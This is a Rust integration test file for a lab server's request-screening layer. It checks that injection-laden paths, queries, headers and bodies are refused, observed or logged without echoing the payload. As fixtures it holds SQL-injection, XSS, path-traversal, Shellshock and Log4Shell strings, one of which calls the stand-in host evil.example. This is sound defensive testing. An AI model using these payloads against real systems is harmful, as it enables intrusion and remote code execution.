//! Request screening: what is refused, what is only observed, and what must never be touched.

use interlock_server::config::{ScreeningMode, ServerConfig};
use serde_json::json;

use crate::lab::Lab;

const DROP: &str = "/tasks?filter=';%20DROP%20TABLE%20tasks;%20--";

fn observing(config: &mut ServerConfig) {
    config.screening.mode = ScreeningMode::Observe;
}

#[tokio::test]
async fn an_attack_in_path_query_or_header_is_refused_before_anybody_is_asked_who_they_are() {
    let lab = Lab::start().await;
    let viewer = lab.token("vic").await;

    for (path, from) in [
        (DROP, "10.1.0.1"),
        ("/tasks?x=%3Cscript%3E", "10.1.0.2"),
        ("/tasks?x=1%20UNION%20SELECT%20NULL", "10.1.0.3"),
        ("/tasks?%3Cscript%3E=1", "10.1.0.4"),
        ("/runs/..%2f..%2fetc%2fpasswd", "10.1.0.5"),
        ("/tasks?x=%00", "10.1.0.6"),
        ("/tasks?x=..%252f..%252fetc", "10.1.0.7"),
        ("/no/such/path?x=%3Cscript%3Ealert(1)%3C/script%3E", "10.1.0.8"),
    ] {
        let stranger = lab.get(path).from(from).send().await;
        stranger.refused(400, "request_blocked");
        assert!(
            !stranger.text().contains("sql")
                && !stranger.text().contains("DROP")
                && !stranger.text().contains("script")
        );
        lab.get(path).from(from).signed(&viewer).send().await.refused(400, "request_blocked");
    }
    for (name, value) in [
        ("referer", "https://lab.example/?q=<script>alert(1)</script>"),
        ("x-forwarded-for", "' or 1=1--"),
        ("x-custom", "${jndi:ldap://evil.example/a}"),
        ("user-agent", "() { :; }; /bin/bash -c id"),
        ("origin", "https://x/<svg onload=alert(1)>"),
    ] {
        lab.get("/health").from("10.2.0.1").header(name, value).send().await.refused(400, "request_blocked");
        lab.app.bans.reload().await.expect("bans");
        lab.clock.advance(std::time::Duration::from_hours(2));
    }
    lab.assert_chain().await;
}

#[tokio::test]
async fn honest_requests_pass() {
    let lab = Lab::start().await;
    let viewer = lab.token("vic").await;

    for path in [
        "/tasks?filter=select",
        "/tasks?q=drop+table+of+reagents",
        "/runs?action=mix_color&limit=50",
        "/runs?action=plate..csv",
        "/runs?action=a%2Fb",
        "/runs?action=O%27Brien",
        "/runs?action=50%25",
        "/runs?state=succeeded&offset=0",
    ] {
        let answer = lab.get(path).signed(&viewer).send().await;
        assert!(matches!(answer.status.as_u16(), 200 | 403), "{path}: {}", answer.text());
    }
    for (name, value) in [
        ("user-agent", ""),
        ("user-agent", "-"),
        ("user-agent", "ESP8266HTTPClient"),
        ("x-real-ip", "203.0.113.7"),
        ("referer", "https://lab.example/docs?next=%2Fruns%3Fq%3Da%252Fb#top"),
        ("accept", "text/html;q=0.9,*/*;q=0.8"),
        ("cookie", "a=' or 1=1--"),
        ("if-none-match", "W/\"<script>\""),
        ("x-request-id", "plate-7.A1"),
    ] {
        assert_eq!(
            lab.get("/health").header(name, value).send().await.status.as_u16(),
            200,
            "{name}: {value}"
        );
    }
    assert!(lab.trail_of("request.blocked").await.is_empty());
}

#[tokio::test]
async fn a_body_s_ids_and_names_are_looked_at_after_authentication() {
    let lab = Lab::start().await;
    let admin = lab.token("ada").await;
    let user = json!({ "name": "<script>alert(1)</script>", "password": "seven purple pipettes", "roles": ["viewer"] });

    lab.post("/users").json(&user).send().await.refused(401, "unauthorized");
    lab.post("/users").signed(&lab.token("vic").await).json(&user).send().await.refused(403, "forbidden");
    lab.post("/users").signed(&admin).json(&user).send().await.refused(400, "request_blocked");

    let role = json!({ "name": "eve", "password": "seven purple pipettes", "roles": ["' or 1=1--"] });
    lab.post("/users").signed(&admin).json(&role).send().await.refused(400, "request_blocked");
    // What stands in a password is nobody's business.
    let secret = json!({ "name": "eve", "password": "<script>alert(1)</script>", "roles": ["viewer"] });
    assert_eq!(lab.post("/users").signed(&admin).json(&secret).send().await.status.as_u16(), 201);
}

#[tokio::test]
async fn free_text_is_stored_as_it_came_and_observed() {
    let lab = Lab::start().await;
    let operator = lab.token("ana").await;
    let text = "<img src=x onerror=alert(1)>'; DROP TABLE runs; --";

    let cleared =
        lab.post("/device/attention/clear").signed(&operator).json(&json!({ "reason": text })).send().await;
    assert_ne!(cleared.status.as_u16(), 400, "{}", cleared.text());
    let run = lab.post("/check/echo").signed(&operator).json(&json!({ "text": text })).send().await;
    assert_ne!(run.json()["code"], "request_blocked", "{}", run.text());

    let seen = lab.trail_of("request.observed").await;
    assert_eq!(seen.len(), 2, "{seen:?}");
    assert!(seen.iter().all(|entry| entry.draft.details["place"] == "free_text"));
    assert!(seen.iter().all(|entry| !entry.draft.details.to_string().contains("onerror")));
}

#[tokio::test]
async fn reasons_can_be_held_to_the_rules_of_titles() {
    let lab = Lab::with(|config| config.screening.text_as_labels = true).await;
    let operator = lab.token("ana").await;
    let clear = async |reason: &str| {
        lab.post("/device/attention/clear").signed(&operator).json(&json!({ "reason": reason })).send().await
    };

    clear("<img src=x onerror=alert(1)>").await.refused(400, "request_blocked");
    assert_ne!(clear("Drop table of reagents; SELECT wells A1–A6").await.status.as_u16(), 400);
}

#[tokio::test]
async fn the_emergency_stop_is_never_refused_for_what_stands_in_it() {
    let lab = Lab::with(|config| config.screening.text_as_labels = true).await;
    let viewer = lab.token("vic").await;
    let reason = json!({ "reason": "<script>alert(1)</script>" });

    let stop = lab.post("/stop?x=%3Cscript%3E").signed(&viewer).header("referer", "' or 1=1--").json(&reason);
    let report = stop.send().await.ok();

    assert_eq!(report["reason"], reason["reason"]);
    assert_eq!(lab.device.stops().len(), 1);
}

#[tokio::test]
async fn observing_serves_everything_and_says_what_it_saw() {
    let lab = Lab::with(observing).await;
    let viewer = lab.token("vic").await;

    for _ in 0..20 {
        lab.get(DROP).signed(&viewer).send().await.ok();
    }

    assert_eq!(lab.trail_of("request.observed").await.len(), 20);
    assert!(lab.trail_of("request.blocked").await.is_empty());
    assert!(lab.app.bans.standing("10.0.0.7".parse().expect("address")).is_none());
}

#[tokio::test]
async fn switched_off_it_does_not_look() {
    let lab = Lab::with(|config| config.screening.mode = ScreeningMode::Off).await;
    let viewer = lab.token("vic").await;

    lab.get(DROP).signed(&viewer).send().await.ok();

    assert!(lab.trail_of("request.observed").await.is_empty());
}

#[tokio::test]
async fn the_record_names_rule_and_place_and_never_the_text() {
    let lab = Lab::start().await;

    lab.get(DROP).send().await.refused(400, "request_blocked");

    let rows = lab.trail_of("request.blocked").await;
    assert_eq!(rows.len(), 1);
    let details = &rows[0].draft.details;
    assert_eq!(
        (&details["family"], &details["place"], &details["strike"]),
        (&json!("sql"), &json!("query"), &json!(true))
    );
    assert_eq!(details["route"], "GET /tasks");
    assert!(details["rule"].as_str().is_some_and(|rule| rule.starts_with("sql.")));
    assert!(!details.to_string().to_ascii_lowercase().contains("drop table"));
    assert_eq!(rows[0].draft.client_ip.as_deref(), Some("10.0.0.7"));
}

#[tokio::test]
async fn a_scanner_s_name_alone_is_an_event_and_makes_another_hit_certain() {
    let lab = Lab::start().await;
    let agent = "sqlmap/1.8#stable (https://sqlmap.org)";

    for _ in 0..10 {
        lab.get("/health/live").header("user-agent", agent).send().await.ok();
        assert_eq!(lab.get("/health").header("user-agent", agent).send().await.status.as_u16(), 200);
    }
    assert_eq!(lab.trail_of("request.observed").await.len(), 10);
    lab.get("/tasks?x=%00").send().await.refused(400, "request_blocked");
    lab.get("/tasks?x=%00").header("user-agent", agent).send().await.refused(400, "request_blocked");

    let strikes: Vec<bool> = lab
        .trail_of("request.blocked")
        .await
        .iter()
        .map(|entry| entry.draft.details["strike"] == json!(true))
        .collect();
    assert_eq!(strikes, [false, true]);
}

#[tokio::test]
async fn an_absurd_user_agent_is_refused() {
    let lab = Lab::start().await;

    lab.get("/health").header("user-agent", "a".repeat(2_049)).send().await.refused(400, "request_blocked");
    lab.get("/health").header("user-agent", "a".repeat(2_048)).send().await.ok();
}

#[tokio::test]
async fn a_huge_body_is_observed_within_a_budget() {
    let lab = Lab::start().await;
    let operator = lab.token("ana").await;
    let items: Vec<String> = (0..60_000).map(|index| format!("' or {index}={index}--")).collect();

    let answer = lab.post("/check/mix").signed(&operator).json(&json!({ "items": items })).send().await;

    answer.refused(400, "invalid_parameters");
    assert_eq!(lab.trail_of("request.observed").await.len(), 1);
}
